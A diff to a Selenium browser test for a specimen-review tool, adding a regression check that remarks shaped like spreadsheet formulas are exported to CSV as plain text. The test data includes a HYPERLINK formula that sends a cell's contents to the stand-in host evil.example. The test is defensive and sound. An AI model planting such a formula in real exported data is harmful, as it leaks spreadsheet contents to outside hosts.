@@ -71,6 +71,10 @@ def _card(driver, sha256: str):
     return driver.find_element(By.CSS_SELECTOR, f'article[data-sha="{sha256}"]')
 
 
+#: A remark a spreadsheet would run as a formula (red team, session 19: the export left it live).
+REMARK = '=HYPERLINK("http://evil.example/?x="&A1,"a fern, not this")'
+
+
 @needs_browser
 def test_review_in_chromium_then_apply_then_dwca(tmp_path, sandbox, cli_env):
     from selenium.webdriver.common.by import By
@@ -110,7 +114,7 @@ def test_review_in_chromium_then_apply_then_dwca(tmp_path, sandbox, cli_env):
         # reject the second from the keyboard: focus it, then r
         body = driver.find_element(By.TAG_NAME, "body")
         _card(driver, second["sha256"]).find_element(By.CSS_SELECTOR, ".rv-remarks").send_keys(
-            "a fern, not this"
+            REMARK
         )
         _card(driver, second["sha256"]).click()
         body.send_keys("r")
@@ -146,7 +150,8 @@ def test_review_in_chromium_then_apply_then_dwca(tmp_path, sandbox, cli_env):
     decisions = {row["sha256"]: row for row in rows}
     assert decisions[first["sha256"]]["decision"] == "accepted"
     assert decisions[first["sha256"]]["scientific_name"] == first["best"]["scientific_name"]
-    assert decisions[second["sha256"]]["remarks"] == "a fern, not this"
+    # a formula-like cell leaves the page as text (session 19: it left as a live formula)
+    assert decisions[second["sha256"]]["remarks"] == "'" + REMARK
     assert decisions[third["sha256"]]["scientific_name"] == correction
     assert {row["identified_by"] for row in rows} == {"A. Botanist"}
     downloaded = downloads / "decisions.csv"
@@ -167,6 +172,7 @@ def test_review_in_chromium_then_apply_then_dwca(tmp_path, sandbox, cli_env):
     }
     assert reviewed[BARCODES[0]]["verification"]["decision"] == "accepted"
     assert reviewed[BARCODES[1]]["verification"]["decision"] == "rejected"
+    assert reviewed[BARCODES[1]]["verification"]["remarks"] == REMARK  # the mark taken off
     assert reviewed[BARCODES[2]]["verification"]["scientific_name"] == correction
     assert reviewed[BARCODES[2]]["verification"]["by"] == "A. Botanist"
 
